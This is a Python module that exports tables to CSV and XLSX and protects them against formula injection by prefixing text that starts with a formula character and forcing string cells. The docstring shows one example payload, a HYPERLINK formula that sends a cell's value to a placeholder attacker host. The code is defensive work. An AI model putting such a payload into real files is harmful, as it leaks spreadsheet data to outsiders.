"""Spreadsheet exports (CSV and XLSX) that are safe to open in Excel or LibreOffice.

Every export goes through here, because names in them come from users: a seller called
`=HYPERLINK("http://evil.example/?leak="&B2,"Klik")` must arrive in the finance office's
spreadsheet as text, never as a formula that runs when the file is opened.

- CSV: the OWASP CSV-injection rule. A text cell that starts with `=`, `+`, `-`, `@`, tab,
  carriage return (or line feed) is prefixed with a single quote, and every text cell is
  quoted. Numbers stay numbers (a negative reversal amount is not a formula).
- XLSX: text is written as string cells (openpyxl would otherwise turn a string starting with
  `=` into a formula cell); characters XLSX cannot hold are dropped instead of failing.
"""

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any, Literal

from fastapi.responses import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

Format = Literal["csv", "xlsx"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
MEDIA_TYPES: dict[str, str] = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# For the OpenAPI schema of a route that answers an export.
EXPORT_RESPONSES: dict[int | str, dict[str, Any]] = {
    200: {
        "description": "CSV (UTF-8 with BOM) or XLSX",
        "content": {
            "text/csv": {"schema": {"type": "string"}},
            MEDIA_TYPES["xlsx"]: {"schema": {"type": "string", "format": "binary"}},
        },
    }
}
_UNSAFE_FILENAME = re.compile(r"[^A-Za-z0-9._-]+")


@dataclass
class Table:
    """One sheet: a header row, the body, and an optional closing row (e.g. TOTAL), in bold."""

    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Any]]
    total: Sequence[Any] | None = None
    bold: bool = field(default=True)


def neutralised(value: Any) -> Any:
    """A CSV cell value that no spreadsheet program evaluates (OWASP CSV injection rule)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _plain(value: Any) -> Any:
    """Cells are text or numbers: anything else (dates, None, objects) becomes text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ya" if value else "tidak"
    if isinstance(value, int | float | str):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    return str(value)


def to_csv(table: Table) -> bytes:
    buffer = io.StringIO()
    # QUOTE_NONNUMERIC: every text cell quoted, numbers left bare so they stay numbers.
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in _all_rows(table):
        writer.writerow([neutralised(_plain(value)) for value in row])
    # BOM so that Excel opens the UTF-8 file with the right characters.
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(table: Table) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(_sheet_title(table.title))
    bold = Font(bold=True)
    last = len(table.rows) + (1 if table.total is not None else 0)
    for index, row in enumerate(_all_rows(table)):
        emphasised = table.bold and (index == 0 or (table.total is not None and index == last))
        sheet.append([_xlsx_cell(sheet, value, bold if emphasised else None) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def render(table: Table, format: Format) -> bytes:
    return to_csv(table) if format == "csv" else to_xlsx(table)


def file_response(data: bytes, name: str, format: Format) -> Response:
    """The rendered file as a download named `<name>.<format>` (the name reduced to safe characters)."""
    safe = _UNSAFE_FILENAME.sub("-", name).strip("-.") or "ekspor"
    return Response(data, media_type=MEDIA_TYPES[format], headers={"Content-Disposition": f'attachment; filename="{safe}.{format}"'})


def _all_rows(table: Table) -> list[Sequence[Any]]:
    return [table.header, *table.rows, *([table.total] if table.total is not None else [])]


def _xlsx_cell(sheet: Any, value: Any, font: Font | None) -> WriteOnlyCell:
    value = _plain(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl makes a string starting with "=" a formula; a string cell is only ever text.
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def _sheet_title(title: str) -> str:
    # Excel's limits: 31 characters, none of []:*?/\
    cleaned = re.sub(r"[\[\]:*?/\\]", " ", title).strip()[:31]
    return cleaned or "Sheet"
